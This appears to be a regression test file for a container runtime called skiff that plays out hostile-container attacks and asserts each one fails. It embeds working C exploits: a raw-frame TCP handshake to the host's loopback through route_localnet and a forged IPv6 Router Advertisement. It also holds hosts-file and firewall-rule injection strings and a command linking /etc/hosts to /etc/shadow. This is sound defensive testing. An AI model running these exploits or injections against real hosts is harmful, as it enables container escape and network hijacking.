// A hostile container against skiff's networking: each attack is written as what must NOT work.
//
// 1. route_localnet (the CVE-2020-8558 class): skiff sets route_localnet on its bridges (the DNAT of
//    127.0.0.1:P needs it), which also lets a container that crafts a frame to 127.0.0.1 with the
//    gateway's MAC (a packet socket; CAP_NET_RAW is in docker's default set) reach a service the
//    host binds on 127.0.0.1 only. Before the raw-prerouting drop (nat_plan.ts) the handshake
//    completed and the host's 127.0.0.1 listener read the attacker's "ESCAPED" in 5 of 5 runs with
//    nft and 5 of 5 with iptables (2026-12-06 ~16:10Z); 0 of 5 each after.
// 2. The host's other addresses: docker leaves INPUT open, so a container reaches a service on the
//    bridge's gateway address; asserted as docker's behaviour (and used as the control that the
//    crafted handshake works at all).
// 3. /etc/hosts as a weapon: the member's file is bound from the host; the container fills it,
//    tries to swap it for a FIFO or a symlink; skiff's rewrite must stay on the same inode, finish
//    and not follow anything.
// 4. Names as injection: aliases, names, hostnames and --add-host values with a newline would add a
//    line to other members' /etc/hosts (a chosen address for a victim's name). Before the check,
//    `--network-alias $'x\n6.6.6.6 victim'` was accepted and every member's file got "6.6.6.6 victim"
//    (1 of 1: deterministic).
// 5. Rule injection: values that reach nft/iptables text are refused before the tool sees them.
// 6. Exhaustion: huge port ranges, -P on a huge exposed range, a thousand aliases: no hang, nothing
//    half-installed.
// 7. Router Advertisements: the host end of a bridge had IPv6 on with accept_ra=1 (the kernel's
//    default while IPv6 forwarding is off), so a container's RA made it the host's IPv6 default
//    router (a default route "proto ra ... pref high" via the bridge) in 3 of 3 runs before skiff
//    set accept_ra=0 on its bridges (docker0 here has accept_ra=0 too), 0 of 3 after; run in a
//    network namespace of the test's own, so the machine's routes are never touched.
//
// Traffic goes only to 127.0.0.1 and to addresses of a bridge the test made (its gateway) and its
// containers' namespaces.

import assert from "node:assert/strict";
import { join } from "node:path";
import { allRuleTags, removeNetworkNat } from "../lib/network/nat.ts";
import { parseTag, rootKey } from "../lib/network/nat_plan.ts";
import { compileStatic } from "./cprog.ts";
import { busyboxTar, MAIN, type TestRoot, withBusybox } from "./helpers.ts";

function onPath(name: string): boolean {
  return (Deno.env.get("PATH") ?? "").split(":").some((d) => {
    try {
      return Deno.statSync(`${d}/${name}`).isFile;
    } catch {
      return false;
    }
  });
}

const suffix = () => crypto.getRandomValues(new Uint32Array(1))[0].toString(16).padStart(8, "0").slice(0, 4);
const linkExists = (name: string) => {
  try {
    Deno.lstatSync(`/sys/class/net/${name}`);
    return true;
  } catch {
    return false;
  }
};
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** A root whose default bridge is its own (skiffa<hex>, a /24 of 10.214.0.0/16), deleted after. */
async function withOwnBridge(
  fn: (root: TestRoot, bridge: { name: string; prefix: string }) => Promise<void>,
): Promise<void> {
  const name = `skiffa${suffix()}`;
  const prefix = `10.214.${crypto.getRandomValues(new Uint8Array(1))[0]}`;
  try {
    await withBusybox(async (root) => {
      Deno.writeTextFileSync(
        join(root.path, "daemon.json"),
        JSON.stringify({ bridge: name, bip: `${prefix}.1/24` }),
      );
      await fn(root, { name, prefix });
    });
  } finally {
    if (linkExists(name)) await new Deno.Command("ip", { args: ["link", "del", name] }).output();
    const before = Deno.env.get("SKIFF_FIREWALL");
    for (const fw of ["nft", "iptables"]) {
      Deno.env.set("SKIFF_FIREWALL", fw);
      removeNetworkNat({ bridge: name, subnet: `${prefix}.0/24` });
    }
    if (before === undefined) Deno.env.delete("SKIFF_FIREWALL");
    else Deno.env.set("SKIFF_FIREWALL", before);
  }
}

/** A TCP listener that records every connection it accepts and the first bytes each sent. */
function recorder(hostname: string) {
  const listener = Deno.listen({ hostname, port: 0 });
  const seen: string[] = [];
  const done = (async () => {
    try {
      for await (const conn of listener) {
        const buf = new Uint8Array(64);
        const n = await Promise.race([conn.read(buf), sleep(1000).then(() => null)]);
        seen.push(new TextDecoder().decode(buf.subarray(0, n ?? 0)) || "(connected)");
        try {
          conn.close();
        } catch { /* closed */ }
      }
    } catch { /* listener closed */ }
  })();
  return {
    port: (listener.addr as Deno.NetAddr).port,
    seen,
    async close() {
      listener.close();
      await done;
    },
  };
}

const LOCALNET_C = String.raw`
// PROG DST PORT [TRIES]: from inside a container, a TCP handshake to DST:PORT done by hand over a
// packet socket, the frame addressed to the gateway's MAC: the route_localnet attack (CVE-2020-8558)
// when DST is 127.0.0.1. Prints "SYNACK" when the host answered (and completes the handshake with
// a payload), "none" otherwise.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

static unsigned short csum(const void *data, int len, unsigned sum) {
  const unsigned char *p = data;
  for (; len > 1; len -= 2, p += 2) sum += (p[0] << 8) | p[1];
  if (len) sum += p[0] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons(~sum & 0xffff);
}

static unsigned char frame[1500];
static unsigned char mymac[6], gwmac[6];
static struct in_addr me, dst;

static int build(unsigned short sport, unsigned short dport, unsigned seq, unsigned ack, int flags,
                 const char *payload) {
  int plen = payload ? strlen(payload) : 0;
  memset(frame, 0, sizeof frame);
  memcpy(frame, gwmac, 6);
  memcpy(frame + 6, mymac, 6);
  frame[12] = 0x08; frame[13] = 0x00;
  struct iphdr *ip = (struct iphdr *)(frame + 14);
  ip->version = 4; ip->ihl = 5; ip->ttl = 64; ip->protocol = 6;
  ip->tot_len = htons(20 + 20 + plen); ip->id = htons(rand() & 0xffff);
  ip->saddr = me.s_addr; ip->daddr = dst.s_addr;
  ip->check = csum(ip, 20, 0);
  struct tcphdr *t = (struct tcphdr *)(frame + 34);
  t->source = htons(sport); t->dest = htons(dport); t->seq = htonl(seq); t->ack_seq = htonl(ack);
  t->doff = 5; t->window = htons(64240);
  t->syn = !!(flags & 1); t->ack = !!(flags & 2); t->psh = !!(flags & 4);
  if (plen) memcpy(frame + 54, payload, plen);
  unsigned char pseudo[12];
  memcpy(pseudo, &ip->saddr, 4); memcpy(pseudo + 4, &ip->daddr, 4);
  pseudo[8] = 0; pseudo[9] = 6; pseudo[10] = (20 + plen) >> 8; pseudo[11] = (20 + plen) & 0xff;
  unsigned sum = 0;
  for (int i = 0; i < 12; i += 2) sum += (pseudo[i] << 8) | pseudo[i + 1];
  t->check = csum(t, 20 + plen, sum);
  return 54 + plen;
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  int tries = argc > 3 ? atoi(argv[3]) : 6;
  inet_aton(argv[1], &dst);
  unsigned short dport = atoi(argv[2]);
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct ifreq ifr = {0};
  strcpy(ifr.ifr_name, "eth0");
  if (ioctl(s, SIOCGIFINDEX, &ifr)) { perror("ifindex"); return 2; }
  int ifindex = ifr.ifr_ifindex;
  if (ioctl(s, SIOCGIFHWADDR, &ifr)) { perror("hwaddr"); return 2; }
  memcpy(mymac, ifr.ifr_hwaddr.sa_data, 6);
  if (ioctl(s, SIOCGIFADDR, &ifr)) { perror("addr"); return 2; }
  me = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
  // the gateway: the default route's; its MAC from the ARP cache after a datagram to it
  char gw[32] = "";
  FILE *r = fopen("/proc/net/route", "r");
  char line[256];
  while (r && fgets(line, sizeof line, r)) {
    char ifn[32]; unsigned d, g;
    if (sscanf(line, "%31s %x %x", ifn, &d, &g) == 3 && d == 0 && !strcmp(ifn, "eth0")) {
      struct in_addr a = { g }; strcpy(gw, inet_ntoa(a));
    }
  }
  if (!*gw) { fprintf(stderr, "no default route\n"); return 2; }
  int found = 0;
  for (int i = 0; i < 30 && !found; i++) {
    struct sockaddr_in ga = { .sin_family = AF_INET, .sin_port = htons(9) };
    inet_aton(gw, &ga.sin_addr);
    sendto(s, "x", 1, 0, (struct sockaddr *)&ga, sizeof ga);
    usleep(50000);
    FILE *a = fopen("/proc/net/arp", "r");
    while (a && fgets(line, sizeof line, a)) {
      char ip[32], hw[32]; unsigned m[6];
      if (sscanf(line, "%31s %*s %*s %31s", ip, hw) == 2 && !strcmp(ip, gw) &&
          sscanf(hw, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 6 &&
          strcmp(hw, "00:00:00:00:00:00")) {
        for (int k = 0; k < 6; k++) gwmac[k] = m[k];
        found = 1;
      }
    }
    if (a) fclose(a);
  }
  if (!found) { fprintf(stderr, "no ARP entry for %s\n", gw); return 2; }
  int ps = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (ps < 0) { perror("packet socket"); return 2; }
  struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = ifindex,
                            .sll_halen = 6 };
  memcpy(ll.sll_addr, gwmac, 6);
  if (bind(ps, (struct sockaddr *)&ll, sizeof ll)) { perror("bind"); return 2; }
  struct timeval tv = { 0, 100000 };
  setsockopt(ps, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  srand(getpid() ^ time(NULL));
  unsigned short sport = 20000 + rand() % 20000;
  unsigned isn = rand();
  for (int attempt = 0; attempt < tries; attempt++) {
    int n = build(sport, dport, isn, 0, 1, NULL);
    sendto(ps, frame, n, 0, (struct sockaddr *)&ll, sizeof ll);
    for (int w = 0; w < 5; w++) {
      unsigned char in[2048];
      ssize_t got = recv(ps, in, sizeof in, 0);
      if (got < 54) continue;
      struct iphdr *ip = (struct iphdr *)(in + 14);
      if (ip->protocol != 6 || ip->saddr != dst.s_addr) continue;
      struct tcphdr *t = (struct tcphdr *)(in + 14 + ip->ihl * 4);
      if (ntohs(t->source) != dport || ntohs(t->dest) != sport || !t->syn || !t->ack) continue;
      n = build(sport, dport, isn + 1, ntohl(t->seq) + 1, 2 | 4, "ESCAPED\n");
      sendto(ps, frame, n, 0, (struct sockaddr *)&ll, sizeof ll);
      usleep(200000);
      sendto(ps, frame, n, 0, (struct sockaddr *)&ll, sizeof ll);
      printf("SYNACK\n");
      return 0;
    }
  }
  printf("none\n");
  return 1;
}
`;

/** This root's DNAT rules in the kernel (nft table ip skiff, iptables SKIFF). */
const rulesOf = (root: TestRoot) => allRuleTags().filter((t) => parseTag(t)?.rootKey === rootKey(root.path));

const hasTools = onPath("ip") && onPath("gcc");

for (const fw of ["nft", "iptables"] as const) {
  Deno.test({
    name:
      `network attack (${fw}): a crafted frame to 127.0.0.1 does not reach the host's loopback-only service; the gateway's address is reachable as in docker`,
    ignore: !hasTools || !onPath(fw === "nft" ? "nft" : "iptables-restore"),
    fn: async () => {
      const attack = await compileStatic("localnet", LOCALNET_C);
      const env = { SKIFF_FIREWALL: fw };
      await withOwnBridge(async (root, bridge) => {
        // a container on the bridge makes its NAT (route_localnet included), publishing nothing
        const id = (await root.ok(
          ["run", "-d", "-v", `${attack}:/localnet:ro`, "busybox", "sleep", "600"],
          { env },
        )).trim();
        assert.equal(
          Deno.readTextFileSync(`/proc/sys/net/ipv4/conf/${bridge.name}/route_localnet`).trim(),
          "1",
          "the bridge routes 127.0.0.1 (what the attack needs)",
        );
        // control, docker's behaviour: INPUT is open, the gateway's own address answers the same
        // crafted handshake (so a "none" below is the rule's doing, not a broken program)
        const gateway = recorder(`${bridge.prefix}.1`);
        try {
          const ctl = await root.skiff(["exec", id, "/localnet", `${bridge.prefix}.1`, String(gateway.port)]);
          assert.equal(ctl.stdout.trim(), "SYNACK", `control: ${ctl.code} ${ctl.stderr}`);
          const nc = await root.skiff([
            "exec",
            id,
            "sh",
            "-c",
            `echo hi | nc -w 2 ${bridge.prefix}.1 ${gateway.port}`,
          ]);
          assert.equal(
            nc.code,
            0,
            `the gateway's address is reachable (docker's INPUT is open): ${nc.stderr}`,
          );
        } finally {
          await gateway.close();
        }
        assert.ok(gateway.seen.includes("hi\n"), JSON.stringify(gateway.seen));

        // the attack: the host's 127.0.0.1-only service, a port no rule publishes. On the code before
        // the raw drop it connected (the listener read "ESCAPED") in 5 of 5 runs per backend.
        const local = recorder("127.0.0.1");
        let out;
        try {
          out = await root.skiff(["exec", id, "/localnet", "127.0.0.1", String(local.port), "10"]);
          await sleep(300);
        } finally {
          await local.close();
        }
        assert.deepEqual(local.seen, [], "the host's 127.0.0.1 service accepted the container's connection");
        assert.equal(out.stdout.trim(), "none", `the host answered from 127.0.0.1: ${out.stderr}`);
        // and a plain connection to the gateway on that port finds nothing (the service is 127.0.0.1's)
        const plain = await root.skiff([
          "exec",
          id,
          "sh",
          "-c",
          `nc -w 2 ${bridge.prefix}.1 ${local.port} </dev/null`,
        ]);
        assert.notEqual(plain.code, 0);
        await root.ok(["rm", "-f", id], { env });
        assert.deepEqual(rulesOf(root), []);
      });
    },
  });
}

Deno.test({
  name:
    "network attack: a member's /etc/hosts filled, swapped, linked from inside: the rewrite stays on its inode",
  ignore: !onPath("ip"),
  fn: async () => {
    await withOwnBridge(async (root) => {
      const net = `atk${suffix()}`;
      await root.ok([
        "network",
        "create",
        "--subnet",
        `10.215.${crypto.getRandomValues(new Uint8Array(1))[0]}.0/24`,
        net,
      ]);
      try {
        // the hostile member fills its /etc/hosts (64 MiB) and tries to make it a FIFO or a link to
        // a host file: the bind mount's inode cannot be replaced without CAP_SYS_ADMIN
        const evil = (await root.ok([
          "run",
          "-d",
          "--network",
          net,
          "--name",
          "evil",
          "busybox",
          "sh",
          "-c",
          "dd if=/dev/zero of=/etc/hosts bs=1M count=64 2>/dev/null; mkfifo /tmp/f; " +
          "rm -f /etc/hosts 2>/dev/null; mount --bind /tmp/f /etc/hosts 2>/dev/null; " +
          "ln -sf /etc/shadow /etc/hosts 2>/dev/null; touch /tmp/ready; exec sleep 600",
        ])).trim();
        for (let i = 0; i < 100; i++) {
          if ((await root.skiff(["exec", evil, "test", "-e", "/tmp/ready"])).code === 0) break;
          await sleep(100);
        }
        const hostFile = join(root.path, "containers", evil, "hosts");
        const before = Deno.lstatSync(hostFile);
        assert.ok(before.isFile && before.size >= 64 << 20, `filled: ${before.size}`);
        // a newcomer makes skiff rewrite every member's file, the hostile one's included
        const t0 = Date.now();
        const other =
          (await root.ok(["run", "-d", "--network", net, "--name", "newcomer", "busybox", "sleep", "600"], {
            timeoutMs: 60000,
          })).trim();
        assert.ok(Date.now() - t0 < 30000, "the start did not hang on the member's file");
        const after = Deno.lstatSync(hostFile);
        assert.ok(after.isFile, "still a regular file");
        assert.equal(after.ino, before.ino, "rewritten in place");
        assert.ok(after.size < 4096, `rewritten whole: ${after.size}`);
        const seen = await root.ok(["exec", evil, "cat", "/etc/hosts"]);
        assert.match(seen, new RegExp(`\\snewcomer\\s`), seen);
        assert.match(await root.ok(["exec", evil, "sh", "-c", "stat -c %F /etc/hosts"]), /regular/);
        await root.ok(["rm", "-f", evil, other]);
      } finally {
        await root.skiff(["rm", "-f", "evil", "newcomer"]);
        await root.skiff(["network", "rm", net]);
      }
    });
  },
});

Deno.test({
  name:
    "network attack: names, aliases, hostnames and --add-host values cannot add lines to other members' /etc/hosts",
  ignore: !onPath("ip"),
  fn: async () => {
    await withOwnBridge(async (root) => {
      const net = `inj${suffix()}`;
      await root.ok([
        "network",
        "create",
        "--subnet",
        `10.216.${crypto.getRandomValues(new Uint8Array(1))[0]}.0/24`,
        net,
      ]);
      try {
        const victim =
          (await root.ok(["run", "-d", "--network", net, "--name", "victim", "busybox", "sleep", "600"]))
            .trim();
        const inject = "x\n6.6.6.6 victim";
        const refused: [string[], RegExp][] = [
          [
            ["--network-alias", inject],
            /^skiff: invalid argument "x\\n6\.6\.6\.6 victim" for "--network-alias" flag: /,
          ],
          [["--network-alias", "a b"], /for "--network-alias" flag/],
          [["--network-alias", "a\tb"], /for "--network-alias" flag/],
          [["--name", inject], /^skiff: Invalid container name \(x\n6\.6\.6\.6 victim\)/],
          [["--hostname", inject], /^skiff: invalid hostname format: x\\n6\.6\.6\.6 victim\n$/],
          [
            ["--add-host", `${inject}:1.2.3.4`],
            /^skiff: invalid argument .* for "--add-host" flag: bad format for add-host/,
          ],
        ];
        for (const [flags, wording] of refused) {
          const r = await root.skiff(["run", "-d", "--network", net, ...flags, "busybox", "sleep", "600"]);
          assert.equal(r.code, 125, `${JSON.stringify(flags)} was accepted: ${r.stdout}${r.stderr}`);
          assert.match(r.stderr, wording);
        }
        // network connect --alias on a running container
        const other = (await root.ok(["run", "-d", "--name", "other", "busybox", "sleep", "600"])).trim();
        const c = await root.skiff(["network", "connect", "--alias", inject, net, other]);
        assert.notEqual(c.code, 0, `connect --alias accepted: ${c.stderr}`);
        assert.match(c.stderr, /for "--alias" flag/);
        assert.equal(c.stderr.split("\n").length, 2, "one line");
        const hosts = await root.ok(["exec", victim, "cat", "/etc/hosts"]);
        assert.doesNotMatch(hosts, /6\.6\.6\.6/, hosts);
        await root.ok(["rm", "-f", victim, other]);
        assert.equal(root.containerIds().length, 0, "the refused runs made nothing");
      } finally {
        await root.skiff(["rm", "-f", "victim", "other"]);
        await root.skiff(["network", "rm", net]);
      }
    });
  },
});

Deno.test({
  name: "network attack: values that reach nft/iptables text are refused before the tool sees them",
  ignore: !onPath("ip") || !onPath("nft"),
  fn: async () => {
    await withOwnBridge(async (root, bridge) => {
      const run = (flags: string[]) => root.skiff(["run", "--rm", ...flags, "busybox", "true"]);
      for (
        const spec of [
          "80/tcp; flush ruleset",
          "127.0.0.1;flush:80:80",
          "80:80/udp\nflush ruleset",
          "1-2;3:80",
        ]
      ) {
        const r = await run(["-p", spec]);
        assert.equal(r.code, 125, `-p ${JSON.stringify(spec)}: ${r.stderr}`);
        // docker's words print the value as given (a newline in it included)
        if (!spec.includes("\n")) assert.equal(r.stderr.split("\n").length, 2, `one line: ${r.stderr}`);
      }
      const ex = await run(["--expose", "80; flush ruleset", "-P"]);
      assert.equal(ex.code, 125, ex.stderr);
      // an image's EXPOSE is its author's input: refused at import, or by the run that publishes it
      const imp = await root.skiff([
        "import",
        "--change",
        "EXPOSE 80/tcp;flush",
        await busyboxTar(),
        "evil:1",
      ]);
      if (imp.code === 0) {
        const r = await root.skiff(["run", "--rm", "-P", "evil:1", "true"]);
        assert.equal(r.code, 125, r.stderr);
        assert.equal(r.stderr.split("\n").length, 2, `one line: ${r.stderr}`);
      } else assert.equal(imp.stderr.split("\n").length, 2, `one line: ${imp.stderr}`);
      // the state root's daemon.json: a bridge name or bip that would be rule text
      for (
        const cfg of [{ bridge: "a;flush", bip: `${bridge.prefix}.1/24` }, {
          bridge: bridge.name,
          bip: "10.9.0.1/24;flush",
        }]
      ) {
        Deno.writeTextFileSync(join(root.path, "daemon.json"), JSON.stringify(cfg));
        const r = await run([]);
        assert.notEqual(r.code, 0, JSON.stringify(cfg));
        assert.equal(r.stderr.split("\n").length, 2, `one line: ${r.stderr}`);
        assert.ok(!linkExists("a;flush"));
      }
      Deno.writeTextFileSync(
        join(root.path, "daemon.json"),
        JSON.stringify({ bridge: bridge.name, bip: `${bridge.prefix}.1/24` }),
      );
      // the table is still skiff's and whole: a run publishing a port works afterwards
      await root.ok(["run", "--rm", "-p", "127.0.0.1::80", "busybox", "true"]);
      assert.deepEqual(rulesOf(root), []);
      assert.equal(root.containerIds().length, 0);
    });
  },
});

Deno.test({
  name:
    "network attack: huge port ranges, -P on a huge exposed range, a thousand aliases: no hang, nothing half-made",
  ignore: !onPath("ip") || !onPath("nft"),
  fn: async () => {
    await withOwnBridge(async (root) => {
      const timed = async (args: string[]) => {
        const t0 = Date.now();
        const r = await root.skiff(args, { timeoutMs: 120000 });
        return { ...r, ms: Date.now() - t0 };
      };
      for (
        const flags of [
          ["-p", "127.0.0.1:20000-29999:20000-29999"],
          ["--expose", "1-65535", "-P"],
        ]
      ) {
        const r = await timed(["run", "--rm", ...flags, "busybox", "true"]);
        assert.ok(r.ms < 90000, `${flags.join(" ")} took ${r.ms} ms`);
        if (r.code !== 0) assert.equal(r.stderr.split("\n").length, 2, `one line: ${r.stderr}`);
        assert.deepEqual(rulesOf(root), [], `${flags.join(" ")}: rules left`);
        const book = join(root.path, "network", "ports.json");
        try {
          const left = JSON.parse(Deno.readTextFileSync(book));
          assert.deepEqual(Object.keys(left.containers ?? {}), [], "allocations left");
          assert.deepEqual(Object.keys(left.holders ?? {}), [], "holders left");
        } catch (e) {
          if (!(e instanceof Deno.errors.NotFound)) throw e;
        }
        console.log(`${flags.join(" ")}: exit ${r.code} in ${r.ms} ms: ${r.stderr.trim()}`);
      }
      const net = `many${suffix()}`;
      await root.ok([
        "network",
        "create",
        "--subnet",
        `10.217.${crypto.getRandomValues(new Uint8Array(1))[0]}.0/24`,
        net,
      ]);
      try {
        const aliases = Array.from({ length: 1000 }, (_, i) => ["--network-alias", `a${i}`]).flat();
        const a = await timed([
          "run",
          "-d",
          "--network",
          net,
          "--name",
          "many",
          ...aliases,
          "busybox",
          "sleep",
          "600",
        ]);
        assert.equal(a.code, 0, a.stderr);
        assert.ok(a.ms < 30000, `1000 aliases: ${a.ms} ms`);
        const b = (await root.ok(["run", "-d", "--network", net, "busybox", "sleep", "600"])).trim();
        const hosts = await root.ok(["exec", b, "cat", "/etc/hosts"]);
        assert.match(hosts, /\sa999(\s|$)/);
        await root.ok(["rm", "-f", "many", b]);
      } finally {
        await root.skiff(["rm", "-f", "many"]);
        await root.skiff(["network", "rm", net]);
      }
    });
  },
});

const RA_C = String.raw`
// PROG [LIFETIME]: from inside a container, a Router Advertisement (high preference, no prefix) to
// ff02::1 through a packet socket on eth0: the host end of the bridge takes it when accept_ra is on,
// making the container the host's IPv6 default router.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
  int lifetime = argc > 1 ? atoi(argv[1]) : 600;
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct ifreq ifr = {0};
  strcpy(ifr.ifr_name, "eth0");
  if (ioctl(s, SIOCGIFINDEX, &ifr)) { perror("ifindex"); return 2; }
  int ifindex = ifr.ifr_ifindex;
  if (ioctl(s, SIOCGIFHWADDR, &ifr)) { perror("hwaddr"); return 2; }
  unsigned char mac[6];
  memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
  unsigned char f[14 + 40 + 16 + 8];
  memset(f, 0, sizeof f);
  unsigned char dmac[6] = {0x33, 0x33, 0, 0, 0, 1};
  memcpy(f, dmac, 6); memcpy(f + 6, mac, 6); f[12] = 0x86; f[13] = 0xdd;
  unsigned char *ip = f + 14, *icmp = f + 54;
  int plen = 16 + 8;
  ip[0] = 0x60; ip[4] = plen >> 8; ip[5] = plen & 0xff; ip[6] = 58; ip[7] = 255;
  // source fe80::EUI-64 of the MAC, destination ff02::1
  ip[8] = 0xfe; ip[9] = 0x80;
  ip[16] = mac[0] ^ 2; ip[17] = mac[1]; ip[18] = mac[2]; ip[19] = 0xff; ip[20] = 0xfe;
  ip[21] = mac[3]; ip[22] = mac[4]; ip[23] = mac[5];
  ip[24] = 0xff; ip[25] = 0x02; ip[39] = 1;
  icmp[0] = 134; icmp[4] = 64; icmp[5] = 0x08; // hop limit, router preference high
  icmp[6] = lifetime >> 8; icmp[7] = lifetime & 0xff;
  icmp[16] = 1; icmp[17] = 1; memcpy(icmp + 18, mac, 6); // source link-layer address
  unsigned sum = 0;
  for (int i = 0; i < 32; i += 2) sum += (ip[8 + i] << 8) | ip[9 + i];
  sum += plen + 58;
  for (int i = 0; i < plen; i += 2) sum += (icmp[i] << 8) | icmp[i + 1];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  sum = ~sum & 0xffff;
  icmp[2] = sum >> 8; icmp[3] = sum & 0xff;
  int ps = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IPV6));
  if (ps < 0) { perror("packet socket"); return 2; }
  struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IPV6), .sll_ifindex = ifindex,
                            .sll_halen = 6 };
  memcpy(ll.sll_addr, dmac, 6);
  for (int i = 0; i < 5; i++) {
    if (sendto(ps, f, sizeof f, 0, (struct sockaddr *)&ll, sizeof ll) < 0) { perror("sendto"); return 2; }
    usleep(100000);
  }
  printf("sent\n");
  return 0;
}
`;

Deno.test({
  name: "network attack: a container's Router Advertisement does not make it the host's IPv6 router",
  ignore: !hasTools || !onPath("nft") || !onPath("nsenter") ||
    !Deno.statSync("/proc/sys/net/ipv6").isDirectory,
  fn: async () => {
    const ra = await compileStatic("ra", RA_C);
    const host = `sra-${suffix()}`;
    const bridge = `skiffr${suffix()}`;
    const run = (cmd: string, args: string[]) =>
      new Deno.Command(cmd, { args, stdout: "piped", stderr: "piped" }).output();
    assert.ok((await run("ip", ["netns", "add", host])).success);
    try {
      await run("ip", ["-n", host, "link", "set", "lo", "up"]);
      await withBusybox(async (root) => {
        Deno.writeTextFileSync(
          join(root.path, "daemon.json"),
          JSON.stringify({ bridge, bip: "10.219.3.1/24" }),
        );
        // skiff inside the test's "host" namespace, with that namespace's sysfs for /sys/class/net
        const skiff = async (args: string[]) => {
          const script = `set -e; t=$(mktemp -d); mount -t sysfs none "$t"
            mount --bind "$t/class/net" /sys/class/net; mount --bind "$t/devices/virtual/net" /sys/devices/virtual/net
            umount -l "$t"; rmdir "$t"; exec "$@"`;
          const out = await new Deno.Command("nsenter", {
            args: [
              `--net=/run/netns/${host}`,
              "unshare",
              "-m",
              "--propagation",
              "private",
              "sh",
              "-c",
              script,
              "sh",
              Deno.execPath(),
              "run",
              "-A",
              MAIN,
              "--root",
              root.path,
              ...args,
            ],
            stdout: "piped",
            stderr: "piped",
            env: { SKIFF_FIREWALL: "nft" },
          }).output();
          const dec = new TextDecoder();
          const r = { code: out.code, stdout: dec.decode(out.stdout), stderr: dec.decode(out.stderr) };
          assert.equal(r.code, 0, `${args.join(" ")}: ${r.stderr}`);
          return r.stdout;
        };
        const id = (await skiff(["run", "-d", "-v", `${ra}:/ra:ro`, "busybox", "sleep", "600"])).trim();
        try {
          assert.equal((await skiff(["exec", id, "/ra", "120"])).trim(), "sent");
          await sleep(500);
          const routes = new TextDecoder().decode(
            (await run("ip", ["-n", host, "-6", "route", "show"])).stdout,
          );
          assert.doesNotMatch(
            routes,
            new RegExp(`default .*dev ${bridge}`),
            `the container became the host's router:\n${routes}`,
          );
          assert.doesNotMatch(routes, /proto ra/, routes);
        } finally {
          await skiff(["rm", "-f", id]);
        }
      });
    } finally {
      await run("ip", ["netns", "del", host]);
    }
  },
});
